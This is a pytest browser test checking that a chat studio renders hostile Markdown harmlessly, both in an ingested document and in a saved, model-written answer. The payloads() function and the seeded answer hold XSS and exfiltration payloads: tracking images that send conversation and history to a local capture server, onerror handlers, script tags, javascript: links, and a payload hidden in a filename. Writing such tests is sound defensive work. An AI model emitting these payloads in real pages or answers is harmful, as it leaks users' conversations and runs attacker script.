"""Journey in a real browser: hostile Markdown in a document and in a model's answer loads
nothing, runs nothing and links nowhere dangerous (chat, citation cards, a streamed answer)."""
from __future__ import annotations

import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.browser import launch_chromium, new_page, run_studio, screenshot, screenshot_on_failure, wait_idle


class ImageServer:
    """A local server the payloads point at: any request reaching it is a leak."""

    def __init__(self):
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def payloads(base: str) -> str:
    return (
        "# Opening hours\n\n"
        f"The bakery opens at seven every morning. ![x]({base}/leak-md?d=conversation)\n\n"
        f"The bakery closes at six. <img src=\"{base}/leak-html\" onerror=\"window.__pwned='img'\">\n\n"
        "The bakery sells rye on Sundays. <script>window.__pwned='script'</script>\n\n"
        "The bakery takes orders by phone, [click me](javascript:window.__pwned='link') for details.\n\n"
        f"The bakery's menu lives at {base}/bare-url in plain text.\n\n"
        f"## Prices ![p]({base}/leak-heading)\n\nRye costs four euros a loaf.\n"
    )


@pytest.fixture
def image_server():
    server = ImageServer()
    yield server
    server.close()


def _seed(settings, base: str) -> tuple[str, str]:
    """A clone that knows the hostile document, and a thread whose answer (as a cloud model
    might write it) repeats the payloads, with the passage cited."""
    from core.clones import create_clone
    from core.conversations import append_message, create_thread
    from core.knowledge.ingest import ingest_now
    from core.models import Message
    from core.runtime import open_runtime

    runtime = open_runtime(settings, seed_demo=False)
    try:
        clone = create_clone(runtime, "Hostile Baker", "Reads untrusted files.", "🥖", "You are {{ clone_name }}.")
        document = ingest_now(runtime, clone.id, "hours ![x](javascript:alert(1)).md", payloads(base).encode())
        assert document.status == "ready", document.error
        passage = payloads(base).split("\n\n", 1)[1]
        answer = (f"The bakery opens at seven [1]. ![chart]({base}/leak-answer?d=history) "
                  f"<img src=\"{base}/leak-answer-html\"> <script>window.__pwned='answer'</script> "
                  "[see more](javascript:window.__pwned='answer-link') [docs](JaVaScRiPt:window.__pwned=1)")
        citation = {"n": 1, "document": document.filename, "document_id": document.id, "page": None,
                    "heading": f"Hours ![h]({base}/leak-heading)", "chunk_id": "c1", "text": passage,
                    "score": 0.9, "cited": True}
        with runtime.session() as session:
            thread = create_thread(session, clone.id, "Hostile thread")
            append_message(session, thread, Message(role="user", content=f"When? ![q]({base}/leak-question)"))
            append_message(session, thread, Message(role="assistant", content=answer, provider="openai",
                                                    model="gpt-4o-mini", citations=[citation]))
        return clone.id, thread.id
    finally:
        runtime.close()


def _assert_nothing_happened(page, image_server, dialogs):
    time.sleep(1.5)  # give any image a chance to load
    assert image_server.requests == [], f"the browser fetched {image_server.requests}"
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert page.locator('a[href^="javascript:" i], a[href^="data:" i]').count() == 0
    assert page.locator(f'img[src*="{image_server.base}"]').count() == 0
    assert page.locator("main script, [data-testid='stMain'] script").count() == 0


@pytest.mark.browser
@pytest.mark.timeout(400)
def test_hostile_markdown_loads_nothing_runs_nothing_and_links_nowhere(settings, image_server):
    clone_id, thread_id = _seed(settings, image_server.base)
    with run_studio(settings.home) as studio, launch_chromium() as browser:
        page = new_page(browser)
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        leaving: list[str] = []
        page.on("request", lambda request: leaving.append(request.url)
                if not request.url.startswith(studio.url) else None)
        with screenshot_on_failure(page, "journey-hostile"):
            # A saved answer and its citation card, reopened.
            page.goto(f"{studio.url}/chat?clone={clone_id}&thread={thread_id}")
            wait_idle(page)
            page.get_by_text("The bakery opens at seven").first.wait_for()
            page.get_by_text(re.compile(r"^Inspector")).first.click()
            page.get_by_test_id("stDataFrame").first.wait_for()
            wait_idle(page)
            _assert_nothing_happened(page, image_server, dialogs)
            assert page.locator('a[href*="bare-url"]').count() == 0  # a card's bare URL is not a link
            assert page.get_by_text(re.compile(r"bare-url")).count() >= 1  # ...but it is shown
            screenshot(page, "hostile-thread")

            # A new chat: the offline answerer quotes the hostile passage as it streams.
            page.goto(f"{studio.url}/chat?clone={clone_id}")
            wait_idle(page)
            box = page.get_by_test_id("stChatInputTextArea")
            box.fill("When does the bakery open and close?")
            box.press("Enter")
            page.wait_for_url(re.compile(r"thread="), timeout=120_000)
            wait_idle(page)
            page.get_by_text(re.compile(r"seven|six")).first.wait_for()
            _assert_nothing_happened(page, image_server, dialogs)
            # The javascript: link text is shown, never as a link; clicking it goes nowhere.
            target = page.get_by_text("click me").first
            if target.count():
                target.click()
                wait_idle(page)
                assert page.evaluate("window.__pwned") is None
            screenshot(page, "hostile-answer")
        assert [url for url in leaving if image_server.base in url] == []
